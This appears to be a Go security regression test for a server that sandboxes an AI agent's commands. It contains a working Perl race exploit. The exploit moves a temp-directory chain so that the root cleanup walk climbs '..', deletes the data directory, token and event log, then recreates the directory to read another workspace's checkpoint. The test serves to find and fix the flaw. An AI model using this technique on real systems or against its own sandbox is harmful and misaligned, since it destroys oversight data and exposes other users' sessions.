package tests

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAttack148_TmpCleanupClimbsIntoDataDir (hundred-and-forty-eighth
// review, high: the agent has the root server delete its own data
// directory — the admin token, the event log, the read models — which every
// command in every mode is denied, read and write).
//
// After a restricted command ends, the server removes its isolated temp dir
// (sandbox/run.go: afterRun(removeTreeAt(dir))). removeTreeAt first tries
// os.RemoveAll, which is safe; when that fails (here: a chain of
// directories deeper than the server's descriptor limit, review 26's
// EMFILE; without it a concurrent writer that keeps the top directory from
// being emptied makes the final rmdir fail ENOTEMPTY), it walks the tree
// itself, down by name and back UP THROUGH "..", assuming "the command's
// processes are gone when it runs, so nothing moves the tree meanwhile".
// But a full_access command of another turn (the agent starts both turns
// with its runtime credential) is root over the host's files and sees the
// temp dir in the host's TMPDIR: while the walk empties the bottom of the
// chain, it renames the chain's top directory into a directory above the
// data directory (here the server's TMPDIR and --data share a parent; with
// the defaults, /tmp and /var/lib/turnstile, that directory is "/").
// The walk then climbs ".." out of the temp dir into that directory, unlinks
// every file there and descends into every subdirectory, the data
// directory included, as root in the host's mount namespace, where the
// full_access command's masks do not exist.
//
// Then the read: the host's rmdir of the data directory takes the
// full_access command's mask of it along (a mount on a removed directory is
// detached in every namespace), so the same command makes the directory
// again and reads what the server writes there next: its read-model
// checkpoint, every workspace's turns (here another workspace's turn
// started after the clean-up).
//
// Controls: the full_access command cannot see or remove the token itself
// (masked: "MASKED"), its rename worked ("MOVED"), and the restricted
// command's temp dir was removed (the cleanup ran its fallback walk).
func TestAttack148_TmpCleanupClimbsIntoDataDir(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root (a root server; full_access as root over the host's files)")
	}
	if os.Getenv("TURNSTILE_TOKEN") != "" {
		t.Skip("TURNSTILE_TOKEN is set: the server would take it")
	}
	base := t.TempDir()
	data, tmp := filepath.Join(base, "data"), filepath.Join(base, "tmp")
	for _, d := range []string{data, tmp} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	// A descriptor limit of 1024 stands for "deeper than the server's
	// limit" (review 26); the chain below is 1,500 deep.
	s := startServer(t, &Server{Bin: nofileBin(t, 1024), Data: data, Args: []string{"--checkpoint-interval", "1s"}, Env: []string{"TMPDIR=" + tmp}})
	tokenPath := filepath.Join(data, "token")
	if _, err := os.Stat(tokenPath); err != nil {
		t.Fatalf("premise: no token in the data directory: %v", err)
	}
	wsF, wsR := workspace(t), workspace(t)
	s.startTurn("fa-a148", "ws", "full_access", wsF)
	s.startTurn("ae-a148", "ws", "auto_accept_edits", wsR)

	// The full_access command: waits for the restricted command's temp
	// dir, sits at the bottom of its chain, and when the server's walk
	// starts emptying it, moves the chain's top into base.
	const mover = `
my $B = shift; my $start = time; my $deadline = $start + 40; $| = 1;
print "STARTED ", time, "\n";
print -e "$B/data/token" ? "VISIBLE\n" : "MASKED\n";
print unlink("$B/data/token") ? "REMOVED-ITSELF\n" : "CANNOT-REMOVE\n";
my ($x, $bottom);
# The restricted command's temp dir, once its chain is made (a file
# "ready" at the bottom, where the server's first try never reaches).
while (!$bottom && time < $deadline) {
  for my $c (glob "$B/tmp/turnstile-tmp-*") {
    next unless chdir "$c/d";
    chdir "d" while -d "d";
    if (-e "ready") { $x = $c; $bottom = 1; last }
  }
  select(undef, undef, undef, 0.02) unless $bottom;
}
die "no temp dir: " . join(" ", glob("$B/tmp/*"), glob("$B/*")) . "\n" unless $x;
sub count { opendir(my $dh, ".") or return -1; my @e = readdir $dh; scalar @e }
my $full = count();
print "BOTTOM $full\n";
while (time < $deadline) {
  my $n = count();
  if ($n >= 0 && $n < $full) {
    if (rename "$x/d", "$B/d") { print "MOVED\n" } else { print "RENAME-FAILED $!\n" }
    last;
  }
  select(undef, undef, undef, 0.002);
}
chdir "/";
print "END ", (-e "$x" ? "x-left" : "x-gone"), "\n";
# Once the walk has removed the data directory on the host, this view's
# mask of it is gone with it: make it again and wait for what the server
# writes there next (its read-model checkpoint: every workspace's turns).
my $end = $start + 55;
READ: while (time < $end) {
  if (!-d "$B/data") { print "RECREATED\n" if mkdir "$B/data" }
  for my $c (glob "$B/data/*") {
    open(my $fh, "<", $c) or next; local $/; my $s = <$fh>; close $fh;
    if (defined $s && index($s, "victim-a148-marker") >= 0) { print "READ $c\n"; last READ }
  }
  select(undef, undef, undef, 0.05);
}
print "DONE\n";
`
	fa := execInBackground(s, "fa-a148", map[string]any{"tool_call_id": "f1", "timeout_ms": 120000,
		"argv": []string{"perl", "-e", mover, base}, "cwd": wsF})

	// The restricted command: a chain deeper than the descriptor limit in
	// its own temp dir, many files at the bottom (what the walk empties
	// while the other command moves the top), and "ready".
	const chain = `cd "$TMPDIR" && perl -e 'for (1..1500) { mkdir "d" or die "mkdir: $!"; chdir "d" or die } for (1..30000) { open my $f, ">", "f$_" or die "$!"; close $f } open my $r, ">", "ready" or die "$!"; close $r' && echo MADE`
	t.Logf("restricted command starts at %d", time.Now().Unix())
	d := s.execApproved("ae-a148", "r1", map[string]any{"cmd": chain, "cwd": wsR, "timeout_ms": 120000})
	if d.Result == nil || !strings.Contains(d.Result.Stdout, "MADE") {
		t.Fatalf("premise: the restricted command did not make its chain: %+v %+v", d, d.Result)
	}
	t.Logf("restricted command ended at %d", time.Now().Unix())
	t.Logf("restricted command: exit %d stdout %q stderr %q", d.Result.ExitCode, d.Result.Stdout, d.Result.Stderr)
	// Another workspace's turn, after the clean-up (and the directory made
	// again, when the attack works): what the server's next checkpoint
	// holds.
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if !exists(tokenPath) && exists(data) {
			break
		}
	}
	s.startTurn("victim-a148-marker", "ws-other", "auto_accept_edits", workspace(t))
	s.JSON("POST", "/v1/turns/victim-a148-marker/complete", nil, http.StatusOK, nil)
	var f decisionAnswer
	select {
	case f = <-fa:
	case <-time.After(150 * time.Second):
		t.Fatal("the full_access command did not return")
	}
	if f.Result == nil {
		t.Fatalf("premise: the full_access command did not run: %+v", f)
	}
	t.Logf("full_access command: exit %d stdout %q stderr %q", f.Result.ExitCode, f.Result.Stdout, f.Result.Stderr)
	if !strings.Contains(f.Result.Stdout, "MASKED") || !strings.Contains(f.Result.Stdout, "CANNOT-REMOVE") {
		t.Fatalf("premise: the full_access command saw or removed the token itself: %q", f.Result.Stdout)
	}
	if !strings.Contains(f.Result.Stdout, "MOVED") {
		t.Fatalf("premise: the full_access command did not move the chain (the walk never reached its bottom?): %q %q", f.Result.Stdout, f.Result.Stderr)
	}
	// Control: the cleanup ran to its end (the temp dir is gone).
	var left []string
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		left, _ = filepath.Glob(filepath.Join(tmp, "turnstile-tmp-*"))
		if len(left) == 0 && !exists(filepath.Join(base, "d")) {
			break
		}
	}
	if len(left) != 0 {
		t.Logf("the restricted command's temp dir is still there: %v", left)
	}
	for _, l := range strings.Split(s.Output(), "\n") {
		if strings.Contains(l, "checkpoint") {
			t.Logf("server: %s", l)
		}
	}
	var gone []string
	for _, p := range []string{tokenPath, filepath.Join(data, "events"), data} {
		if !exists(p) {
			gone = append(gone, p)
		}
	}
	if strings.Contains(f.Result.Stdout, "READ ") {
		t.Errorf("the full_access command then made the data directory again (its mask went with the directory the server removed) and read the server's next read-model checkpoint there, another workspace's turn included: %q", f.Result.Stdout)
	}
	if len(gone) > 0 {
		t.Errorf("the server's clean-up of a restricted command's temp dir, its chain's top moved by a full_access command into the directory above the data directory, climbed \"..\" out of the temp dir and removed the data directory's contents as root (gone: %v): removeTreeAt (sandbox/removetree.go) walks up through \"..\" of a tree another process can move", gone)
	}
}
